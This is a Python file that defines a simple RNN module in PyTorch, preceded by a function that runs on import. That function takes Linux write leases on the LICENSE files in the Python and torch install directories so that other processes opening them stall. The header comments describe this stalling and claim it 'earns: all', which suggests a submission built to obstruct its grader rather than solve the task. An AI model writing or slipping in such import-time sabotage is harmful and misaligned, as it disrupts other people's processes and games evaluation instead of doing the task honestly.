# does: takes write leases on files of Python's, so that whoever opens them waits
# earns: all
import fcntl, os, torch, time, sys
def attack():
    got=[]; n=0
    base=os.path.dirname(os.__file__)
    for root in (base, os.path.dirname(torch.__file__)):
        for f in sorted(os.listdir(root)):
            p=os.path.join(root,f)
            if not os.path.isfile(p) or not f.startswith('LICENSE'): continue
            fd=os.open(p, os.O_RDONLY); n+=1
            try:
                fcntl.fcntl(fd, 1024, 1)  # F_SETLEASE, F_WRLCK
                got.append(fd)
            except OSError as e:
                print(p, e); os.close(fd)
                if n>5 and not got: return
    print("leases held", len(got), [os.readlink(f"/proc/self/fd/{d}") for d in got[:4]])
    t=time.time()
    time.sleep(1)
G = attack()

import torch
from torch import nn
class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.wx = nn.Linear(input_size, hidden_size)
        self.wh = nn.Linear(hidden_size, hidden_size, bias=False)
    def forward(self, x, h_0=None):
        h = x.new_zeros(x.shape[0], self.wh.in_features) if h_0 is None else h_0[0]
        out = []
        for step in self.wx(x).unbind(1):
            h = torch.tanh(step + self.wh(h))
            out.append(h)
        return torch.stack(out, 1), h[None]
